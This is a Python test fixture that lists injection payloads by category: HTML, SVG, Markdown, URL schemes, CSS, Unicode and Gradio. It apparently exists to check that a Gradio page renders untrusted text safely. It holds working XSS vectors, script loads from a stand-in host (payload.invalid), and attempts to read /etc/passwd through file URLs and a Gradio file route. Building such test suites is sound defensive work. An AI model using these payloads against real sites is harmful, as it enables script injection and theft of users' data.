"""What attackers write where text is shown: each would run a script, reach another host, or break the page if it were
taken for more than text. `GO` marks in `window` that it ran, and `HOST` is an address that the page must never ask."""

GO = "window.__pwned=1"
HOST = "https://payload.invalid"

HTML = [
    f"<script>{GO}</script>",
    f"<ScRiPt src={HOST}/a.js></sCrIpT>",
    f"<img src=x onerror={GO}>",
    f"<img src={HOST}/a.png>",
    f"</p></div></main><h1 style=position:fixed;inset:0>{'X' * 20}</h1><script>{GO}</script>",
    f"<iframe srcdoc='<script>parent.{GO}</script>'></iframe>",
    f"<iframe src=javascript:parent.{GO}></iframe>",
    f"<object data={HOST}/a.swf></object><embed src={HOST}/b.swf>",
    f"<body onload={GO}>",
    f"<input autofocus onfocus={GO}>",
    f"<details open ontoggle={GO}>x</details>",
    f"<video><source onerror={GO}></video><audio src=x onerror={GO}></audio>",
    f"<form action={HOST}><button formaction=javascript:{GO}>send</button></form>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}/><link rel=stylesheet href=a.css>",
    f"<a href='javascript:{GO}' id=location>open</a>",
    f"<template><script>{GO}</script></template><noscript><p title='</noscript><img src=x onerror={GO}>'></noscript>",
    f"<textarea></textarea><img src=x onerror={GO}></textarea>",
    f"<!--><img src=x onerror={GO}>--><![CDATA[<img src=x onerror={GO}>]]>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={GO}&gt;'>",
    f"\"' onmouseover={GO} autofocus onfocus={GO} x='",
    f"<<script>{GO}//<</script>",
    f"<marquee onstart={GO}>x</marquee><dialog open>{'modal ' * 5}</dialog>",
]
SVG = [
    f"<svg onload={GO}>",
    f"<svg><script>{GO}</script></svg>",
    f"<svg><animate onbegin={GO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{GO}><text x=20 y=20>x</text></a></svg>",
    f"<svg><image href={HOST}/a.svg></image><use href={HOST}/b.svg#x></use></svg>",
    f"<svg><foreignObject><iframe onload={GO}></iframe></foreignObject></svg>",
    f"<svg><style>@import '{HOST}/a.css';</style></svg>",
]
MARKDOWN = [
    f"![x]({HOST}/a.png)",
    f"[open](javascript:{GO})",
    f'[open]({HOST} "onmouseover={GO}")',
    f'![x](x"onerror="{GO})',
    f"<javascript:{GO}>",
    f"[x]: {HOST}/a\n[x]",
    f"`<img src=x onerror={GO}>` ~~~<script>{GO}</script>~~~",
    f"$$\\href{{javascript:{GO}}}{{x}}$$ \\(\\url{{{HOST}}}\\)",
    "| a | b |\n|---|---|\n| " + "| " * 40,
]
SCHEMES = [
    f"data:text/html,<script>{GO}</script>",
    f"vbscript:{GO} JaVaScRiPt:{GO} java\tscript:{GO}",
    f"//payload.invalid/a.js {HOST}/a?b=<script>{GO}</script>",
    "file:///etc/passwd view-source:x blob:x",
]
CSS = [
    f"<style>*{{display:none!important;background:url({HOST}/a)}}</style>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url({HOST}/b)'>x</div>",
    f"}} body {{ display: none }} @import url({HOST}/c.css);",
    f"expression({GO}) url('javascript:{GO}')",
]
UNICODE = [
    f"\u202e>/tpircs<1=denwp__.wodniw>tpircs<\u202c \u2066{GO}\u2069",
    f"＜script＞{GO}＜/script＞ \u02bascript\u02ba",
    "Z̷̡̛͓̟͔͙͍͉̗̻̥̦̼̰̈́̈́̈́̈́̈́̈́̈́̈́̈́̈́̈́" * 12,
    "\ufdfd" * 30 + "𒐫" * 20,
    f"\u0001\u0008\u001b[31m<img src=x onerror={GO}>",
    f"\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 <scr\u200bipt>{GO}</scr\u200bipt>".encode(
        "utf-16", "surrogatepass"
    ).decode("utf-16"),
    "W" * 4_000,
    "\u3164" * 50 + "\u2028" * 5 + "\u2029" * 5,
]
GRADIO = [
    f"${{{GO}}} {{{{{GO}}}}} {{%raw%}}",
    f"{{{{#each value}}}}<img src=x onerror={GO}>{{{{/each}}}} ${{`${{{GO}}}`}}",
    f"<gradio-app src={HOST}></gradio-app><gradio-lite>{GO}</gradio-lite>",
    "/gradio_api/file=/etc/passwd <button class=chip data-document=x data-start=0>[1]</button>",
    f'{{"__type__": "update", "value": "<img src=x onerror={GO}>"}}',
    "</textarea><button data-raise=remove_document data-document=all>x</button>",
]
PAYLOADS = {
    f"{kind}-{at}": text
    for kind, texts in {
        "html": HTML,
        "svg": SVG,
        "markdown": MARKDOWN,
        "scheme": SCHEMES,
        "css": CSS,
        "unicode": UNICODE,
        "gradio": GRADIO,
    }.items()
    for at, text in enumerate(texts, 1)
}
"""Each payload by its kind and number."""
